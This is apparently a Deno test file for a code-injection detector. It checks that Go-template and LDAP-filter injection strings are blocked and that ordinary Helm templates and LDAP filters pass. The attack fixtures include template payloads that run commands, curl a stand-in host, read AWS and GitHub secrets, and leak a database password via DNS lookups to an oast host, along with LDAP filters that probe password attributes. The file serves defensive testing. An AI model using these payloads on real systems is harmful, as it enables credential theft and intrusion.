import { strictEqual } from "node:assert/strict";
import { codeInjectionDetector, CodeInjectionOptionsSchema } from "./code_injection.ts";

const OPTS = CodeInjectionOptionsSchema.parse({});
const blocks = (key: string, value: string, tool = "render"): boolean =>
  codeInjectionDetector.scan(value, { stage: "input", path: `$.${key}`, key, tool }, OPTS)
    .some((f) => f.severity === "high" || f.severity === "critical");

/** Paraphrases (none from the fixtures): Go templates reaching the process, widened LDAP filters. */
const ATTACKS: Array<[string, string]> = [
  ["template", 'Hi {{ .User.Name }} {{ .Exec "curl" "-s" "https://x.example/p" }}'],
  ["body", '{{- exec "id" -}} done'],
  ["tpl", "{{ with $vars := .Env }}{{ $vars }}{{ end }}"],
  ["tpl", "Report: {{ .Env | toJson }}"],
  ["message", '{{ env "AWS_SECRET_ACCESS_KEY" }}'],
  ["tpl", 'token={{ expandenv "$GITHUB_TOKEN" }}'],
  ["tpl", '{{ getHostByName (printf "%s.oast.example" .Values.db.password) }}'],
  ["tpl", "{{ .Values.secret | b64enc | getHostByName }}"],
  ["filter", "(&(objectClass=user)(sAMAccountName=bo)(unicodePwd=a*))"],
  ["filter", "(|(cn=bo)(userPassword=*))"],
  ["filter", "(&(uid=bo)(|(mail=x@example.com)(objectClass=*)))"],
  ["query", "(&(cn=svc)(ms-Mcs-AdmPwd=*))"],
];

/** Benign look-alikes: ordinary Helm and Hugo templates, ordinary LDAP filters. */
const BENIGN: Array<[string, string]> = [
  ["template", "tag: {{ .Values.image.tag | default .Chart.AppVersion | quote }}"],
  [
    "template",
    "{{- range $k, $v := .Values.env }}\n- name: {{ $k }}\n  value: {{ $v | quote }}\n{{- end }}",
  ],
  ["template", "{{ range $name, $cfg := .Values.extraEnv }}{{ $name }}{{ end }}"],
  ["template", '{{ include "chart.fullname" . }}-{{ .Release.Name }}'],
  ["template", "{{ .Env.VERSION }}-{{ .Env.GOOS }}"],
  ["template", '{{ env "HOME" }}/cache'],
  ["template", "{{ $cmd := .Values.command }}{{ .Values.runner.command | toYaml }}"],
  ["template", '{{ getHostByName "kubernetes.default.svc" }}'],
  ["filter", "(&(objectClass=person)(uid=bo))"],
  ["filter", "(objectClass=*)"],
  ["filter", "(|(objectClass=*)(objectClass=ldapSubentry))"],
  ["filter", "(&(objectClass=posixAccount)(!(userPassword=*)))"],
  ["filter", "(&(objectClass=user)(cn=Jo*))"],
];

Deno.test("code_injection blocks round-21 template process access and widened LDAP filters", () => {
  for (const [key, value] of ATTACKS) strictEqual(blocks(key, value), true, value);
});

Deno.test("code_injection passes ordinary Helm templates and LDAP filters", () => {
  for (const [key, value] of BENIGN) strictEqual(blocks(key, value), false, value);
});
